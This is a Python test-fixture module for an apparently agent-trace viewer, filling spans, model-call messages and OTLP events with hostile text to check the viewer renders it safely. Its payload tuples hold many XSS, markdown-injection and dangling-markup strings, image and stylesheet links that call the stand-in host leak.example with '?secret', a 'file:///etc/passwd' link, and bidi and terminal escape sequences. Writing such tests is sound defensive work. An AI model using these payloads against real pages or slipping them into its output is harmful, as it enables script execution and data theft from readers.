"""Texts that mean harm: what an agent may have read on a page, been told by a tool, or made up.

Each script in them sets `window.pwned`; each address in them is of `leak.example`, so that a request for one is one
that left the machine.
"""

from __future__ import annotations

import base64
import json
from typing import Any

from tests.e2e.runs import Span, span

PWN = "window.pwned=1"
REMOTE = "https://leak.example"
_ENCODED = base64.b64encode(f"<script>{PWN}</script>".encode()).decode()
_SVG = base64.b64encode(f"<svg xmlns='http://www.w3.org/2000/svg' onload='{PWN}'/>".encode()).decode()

MARKUP = (
    f"<script>{PWN}</script>",
    f"</pre></div></textarea></title><script>{PWN}</script>",
    f"<img src=x onerror={PWN}>",
    f"<img src={REMOTE}/img srcset='{REMOTE}/set 2x'>",
    f"<body onload={PWN}>",
    f"<details open ontoggle={PWN}>x</details>",
    f"<input autofocus onfocus={PWN}>",
    f"<div style='animation:spinner 1s' onanimationstart={PWN}>x</div>",
    f"<a href='javascript:{PWN}' onclick={PWN} id=main name=app>x</a>",
    f"<a href='data:text/html;base64,{_ENCODED}' ping={REMOTE}/ping>x</a>",
    f"<svg onload={PWN}><script>{PWN}</script><a xlink:href='javascript:{PWN}'><text>x</text></a></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>{PWN}</script>'></iframe></foreignObject></svg>",
    f"<svg><animate onbegin={PWN} attributeName=x dur=1s><image href='{REMOTE}/svg'/><use href='{REMOTE}/u#x'/></svg>",
    f"<math href='javascript:{PWN}'><mtext><mglyph><style><!--</style>"
    f"<img title='--&gt;&lt;img src=1 onerror={PWN}&gt;'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={PWN}>",
    f"<svg></p><style><a id='</style><img src=1 onerror={PWN}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={PWN}>'>",
    f"<template><img src=x onerror={PWN}></template><template shadowrootmode=open><script>{PWN}</script></template>",
    f"<img src='{REMOTE}/dangling?",
    f"<table background={REMOTE}/table><td style='background:url({REMOTE}/css)'>x",
    f"<style>@import '{REMOTE}/import'; * {{ background: url({REMOTE}/css) !important }}</style>",
    f"<link rel=stylesheet href={REMOTE}/link><link rel=prefetch href={REMOTE}/prefetch>",
    f"<meta http-equiv=refresh content='0;url={REMOTE}/refresh'><base href='{REMOTE}/'>",
    f"<iframe src='javascript:parent.{PWN}'></iframe><iframe src={REMOTE}/frame></iframe>",
    f"<object data={REMOTE}/object></object><embed src={REMOTE}/embed><portal src={REMOTE}/portal>",
    f"<form action={REMOTE}/form><button formaction='javascript:{PWN}'>x</button><input type=submit></form>",
    f"<video src={REMOTE}/video autoplay onerror={PWN}></video><audio src={REMOTE}/audio autoplay></audio>",
    f"<x contenteditable onblur={PWN} tabindex=1 autofocus>x</x><dialog open onclose={PWN}>x</dialog>",
    f"'\"--><script>{PWN}</script>",
    f"{{{{constructor.constructor('{PWN}')()}}}} ${{{PWN}}} <%= {PWN} %>",
    f"javascript:{PWN}",
)
"""Markup, in forms a filter may let through and in some that become something else when they are read twice."""

MARKDOWN = (
    f"[a](javascript:{PWN}) [b](JaVaScRiPt:{PWN}) [c](java\tscript:{PWN}) [d](\x01javascript:{PWN})",
    f"[a](&#106;avascript:{PWN}) [b](javascript&colon;{PWN}) [c](<javascript:{PWN}>) [d](%6Aavascript:{PWN})",
    f"[a](vbscript:{PWN}) [b](data:text/html;base64,{_ENCODED}) [c](blob:{REMOTE}/x) [d](file:///etc/passwd)",
    f"<javascript:{PWN}> <data:text/html,x> <https://leak.example/auto> www.leak.example https://leak.example/bare",
    f"![a]({REMOTE}/md.png?secret) ![b]({REMOTE}/x 'title') ![c](//leak.example/y) ![d](http://leak.example/z)",
    f'![a](javascript:{PWN}) ![b](data:image/svg+xml;base64,{_SVG}) ![c](x" onerror="{PWN}) !["onerror="{PWN}](y)',
    f"[![inner]({REMOTE}/i.png)]({REMOTE}/o) [a]({REMOTE}/'onclick='{PWN}) [b]({REMOTE}/\"onclick=\"{PWN})",
    "[a](//leak.example) [b](\\\\leak.example) [c](/traces/export) [d](?filter=x) [e](#main) [f](https://a@leak.example)",
    f"[ref] ![pic][pic] [x][y]\n\n[ref]: javascript:{PWN}\n[pic]: {REMOTE}/ref.png\n[y]: <data:text/html,x> 'title'",
    f"| a <img src=x onerror={PWN}> | b |\n|---|:-:|\n| <script>{PWN}</script> | ![x]({REMOTE}/cell) |",
    f'```html\n<script>{PWN}</script>\n```\n\n`<img src=x onerror={PWN}>`\n\n~~~" onmouseover="{PWN}\nx\n~~~',
    f"> # <svg onload={PWN}>\n> - [x] <b onclick={PWN}>x</b>\n> 1. <!-- --><script>{PWN}</script> -->",
    f"<div>\n\n**x**<script>{PWN}</script>\n\n</div>\n\n<details open ontoggle={PWN}>\n\n![x]({REMOTE}/html)\n",
)

SIGNS = (
    "\u202egnp.exe\u202d \u2066isolate\u2067never closed",
    "\u202b\u202e\u2068\u200f\u061cright",
    "zero\u200bwidth\u200c\u200d\u2060\ufeffsigns \u00ad soft",
    "\x1b[31mred\x1b[0m \x1b]8;;https://leak.example\x07link\x1b]8;;\x07 \x1b]0;title\x07\x1b[2J\x1b[H\x9b31m",
    "nul\x00bell\x07back\x08\x08\x08\x0c\x0b\x7f\x85\r\rover",
    "Z" + "\u0300\u0489\u0334" * 200 + "algo",
    "\ufffd\uffff\ufffe\ud7ff\U0010ffff \ufdd0 \U000e0041\U000e007f 👩‍👩‍👧‍👦🏴‍☠️",
    '{"half": "\\ud800", "other half": "\\udc00 \\ud83d"}',
    "\u2028\u2029\u0085 lines",
)

TEXTS = MARKUP + MARKDOWN + SIGNS

ALL = "\n\n".join(TEXTS)
"""All of them in one text, short enough to be read as markdown."""

NAMES_OF_OBJECTS = ("__proto__", "constructor", "toString", "hasOwnProperty", "then", "length")
"""Names that every object of JavaScript answers to: a table that is asked for them has to say that it has none."""


def types(trace_id: str) -> list[Span]:
    """One span of each type, harm in everything of it that is shown; the root failed."""
    everywhere: dict[str, Any] = {text: text for text in TEXTS} | dict.fromkeys(NAMES_OF_OBJECTS, ALL)
    values = {
        "agent_step": ("thought", "input", "output", "step_name", "framework"),
        "tool_use": ("name", "framework", "call_id", "input", "output"),
        "chain": ("type", "input", "output"),
        "browser_action": ("action", "url", "page_title", "selector", "value"),
        "file_operation": ("operation", "path", "size_bytes", "content"),
        "shell_command": ("command", "returncode", "stdout", "stderr"),
        "custom": (),
    }
    prefix = {"agent_step": "agent", "tool_use": "tool", "browser_action": "browser", "file_operation": "file"}
    made = [span(trace_id, "root", lasts=30, span_type="agent_step", status="error", error_message=ALL)]
    for at, (span_type, names) in enumerate(values.items()):
        stem = prefix.get(span_type, span_type.removesuffix("_command"))
        said = {f"{stem}.{name}": ALL for name in names}
        made.append(
            span(
                trace_id, span_type, parent="root", at=1 + at, span_type=span_type, status="error", error_message=ALL,
                attributes=everywhere | said,
            )
        )  # fmt: skip
    made[4]["attributes"]["browser.screenshot"] = f"data:image/svg+xml;base64,{_SVG}"
    call = span(
        trace_id, "llm_call", parent="root", at=10, span_type="llm_call", attributes=everywhere | conversation()
    )
    # what is shown of a span everywhere: its name
    named = [{**span(trace_id, f"named-{i}", parent="root", at=11), "name": text} for i, text in enumerate(TEXTS)]
    failed: Span = {"status": "error"}
    return [*made, call, *({**one, **failed, "error_message": one["name"]} for one in named)]


def conversation() -> dict[str, Any]:
    """The attributes of a call of a model: every kind of message and part, harm in each."""
    calls = [{"id": ALL, "type": "function", "function": {"name": text, "arguments": text}} for text in TEXTS[:12]]
    pictures = [f"{REMOTE}/part.png", f"data:image/svg+xml;base64,{_SVG}", f"javascript:{PWN}", f"data:text/html,{ALL}"]
    messages: list[Any] = [
        {"role": "system", "content": ALL},
        {"role": "user", "name": ALL, "content": [{"type": "text", "text": text} for text in TEXTS]},
        {"role": "user", "content": [{"type": "image_url", "image_url": {"url": url}} for url in pictures]},
        {"role": f"x unseen toast {MARKUP[2]}", "content": ALL},
        {"role": "assistant", "content": ALL, "reasoning_content": ALL, "refusal": ALL, "tool_calls": calls},
        {"role": "tool", "tool_call_id": "nobody", "name": ALL, "content": ALL},
        {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "x", "name": ALL, "content": ALL}]},
        {"role": "user", "content": [{"type": ALL, "anything": ALL}]},
        *({"type": name, "content": MARKUP[0], "name": name} for name in NAMES_OF_OBJECTS),
        *({"role": name, "content": {name: MARKUP[0]}} for name in NAMES_OF_OBJECTS),
        [[[ALL]]], 17, None, ALL,
    ]  # fmt: skip
    return {
        "llm.provider": MARKUP[2],
        "llm.model": MARKUP[2],
        "llm.request_model": ALL,
        "llm.prompt": json.dumps(messages),
        "llm.completion": ALL,
        "llm.reasoning": ALL,
        "llm.finish_reason": ALL,
        "llm.temperature": ALL,
        "llm.tool_calls": json.dumps(calls),
        "llm.tools": json.dumps([{"type": "function", "function": {"name": text}} for text in TEXTS]),
    }


def nested(depth: int) -> str:
    """JSON that is `depth` objects deep."""
    return '{"a":' * depth + "1" + "}" * depth


def otlp(trace_id: str, span_id: str, events: list[dict[str, Any]]) -> dict[str, Any]:
    """A request of OTLP with one failed span that has `events`."""
    sent = {
        "traceId": trace_id, "spanId": span_id, "name": "otel", "status": {"code": 2},
        "startTimeUnixNano": "1700000001000000000", "endTimeUnixNano": "1700000002000000000", "events": events,
    }  # fmt: skip
    return {"resourceSpans": [{"scopeSpans": [{"spans": [sent]}]}]}


def event(name: str, attributes: dict[str, str]) -> dict[str, Any]:
    said = [{"key": key, "value": {"stringValue": value}} for key, value in attributes.items()]
    return {"name": name, "timeUnixNano": "1700000001500000000", "attributes": said}
